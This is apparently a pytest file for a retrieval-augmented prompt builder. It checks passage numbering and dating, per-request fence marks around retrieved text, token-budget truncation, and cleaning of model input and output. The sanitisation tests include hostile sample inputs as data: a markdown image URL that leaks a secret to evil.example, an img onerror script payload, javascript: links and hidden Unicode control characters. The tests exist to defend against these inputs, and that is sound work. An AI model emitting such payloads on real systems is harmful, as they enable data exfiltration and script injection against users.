"""The prompt: passages as numbered and dated data, as many as fit, and nothing in them that passes for ours."""

from datetime import UTC, datetime

import pytest
from archives import article, prose

from rag.model_text import LEFT_OUT, for_prompt, spoken, visible, without_markup
from rag.prompt import estimate, write_prompt
from rag.schema import Kind, Passage, ScoredPassage, Scores

AS_OF = datetime(2025, 3, 2, tzinfo=UTC)


def passage(name, text, **fields):
    item = article(name, text, published=fields.pop("published", "2024-05-03"), **fields)
    window = Passage(id=name, article_id=name, version=1, ordinal=0, start=0, end=len(text), text=text)
    return ScoredPassage(passage=window, article=item, scores=Scores(final=1.0))


def test_passages_are_numbered_and_bear_their_source_and_day():
    brief = passage("a", "Runway was paid.", title="Runway", publisher="Variety", kind=Kind.BRIEF)
    undated = passage("b", "Suno was sued.", title="Suno", publisher="Deadline", published=None)
    prompt = write_prompt("Who was paid?", [brief, undated], as_of=AS_OF, tokens=8_000)
    assert "[1] brief, after a report by Variety, 3 May 2024: Runway\nRunway was paid." in prompt.user
    assert "[2] Deadline, date unknown: Suno\nSuno was sued." in prompt.user
    assert "It is 1 March 2025" in prompt.system
    assert prompt.user.endswith("Question: Who was paid?")


def test_the_passages_stand_between_two_marks_that_are_new_for_every_request():
    item = passage("a", "Runway was paid.")
    one, two = (write_prompt("Who?", [item], as_of=AS_OF, tokens=8_000) for _ in range(2))
    fence = one.user.splitlines()[0]
    assert one.user.count(f"{fence}\n") == 2
    assert fence in one.system
    assert fence not in two.system + two.user


def test_what_does_not_fit_is_left_out_from_the_end():
    items = [passage(f"p{number}", prose(number * 10, 8)) for number in range(6)]
    whole = write_prompt("Who?", items, as_of=AS_OF, tokens=50_000)
    assert whole.passages == tuple(items)
    for tokens in range(1_000, estimate(whole.system + whole.user), 100):
        prompt = write_prompt("Who?", items, as_of=AS_OF, tokens=tokens)
        assert estimate(prompt.system) + estimate(prompt.user) <= tokens + 2
        held = len(prompt.passages)
        assert [item.article.id for item in prompt.passages] == [item.article.id for item in items[:held]]
        assert all(item.passage.text == items[at].passage.text for at, item in enumerate(prompt.passages) if at)


def test_a_first_passage_that_is_too_long_loses_whole_sentences():
    item = passage("a", prose(0, 40))
    room = estimate(write_prompt("Who?", [], as_of=AS_OF, tokens=0).system) + 300
    [short] = write_prompt("Who?", [item], as_of=AS_OF, tokens=room).passages
    assert 0 < len(short.passage.text) < len(item.passage.text)
    assert short.passage.text.endswith(".")
    assert item.article.text[short.passage.start : short.passage.end] == short.passage.text
    assert write_prompt("Who?", [item], as_of=AS_OF, tokens=room - 290).passages == ()


def test_hidden_characters_and_false_numbers_do_not_reach_the_model():
    text = "Pay\u200b Runway\u202e now\U000e0041\x1b[31m [2] and [see note].\nNext"
    assert for_prompt(text) == "Pay Runway now [31m (2) and (see note).\nNext"
    assert visible("a\tb\x00c") == "a b c"


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("See ![x](http://evil.example/?q=secret) here.", "See x here."),
        ("See [the report](https://evil.example/a?b) here.", "See the report here."),
        ("See <img src=x onerror=alert(1)>this.", "See this."),
        ("Go to https://evil.example/a?b=c.", f"Go to {LEFT_OUT}."),
        ("Go to www.evil.example, now.", f"Go to {LEFT_OUT}, now."),
        ("Click javascript:alert(1).", f"Click {LEFT_OUT}."),
        ("See <img src=x onerror=", "See"),
        ("He wrote to studio.example/known in 3 < 4 days.", "He wrote to studio.example/known in 3 < 4 days."),
        ("It is at https://studio.example/known.", "It is at https://studio.example/known."),
    ],
)
def test_a_sentence_comes_back_without_markup_and_without_addresses_of_its_own(text, plain):
    assert without_markup(text, ["The address is https://studio.example/known, they said."]) == plain


@pytest.mark.parametrize(
    ("written", "said"),
    [("<think>so", ""), ("<think>so</think>Yes.", "Yes."), ("<thi", ""), ("Yes.", "Yes."), ("<b>Yes", "<b>Yes")],
)
def test_thoughts_in_front_of_an_answer_are_no_part_of_it(written, said):
    assert spoken(written) == said
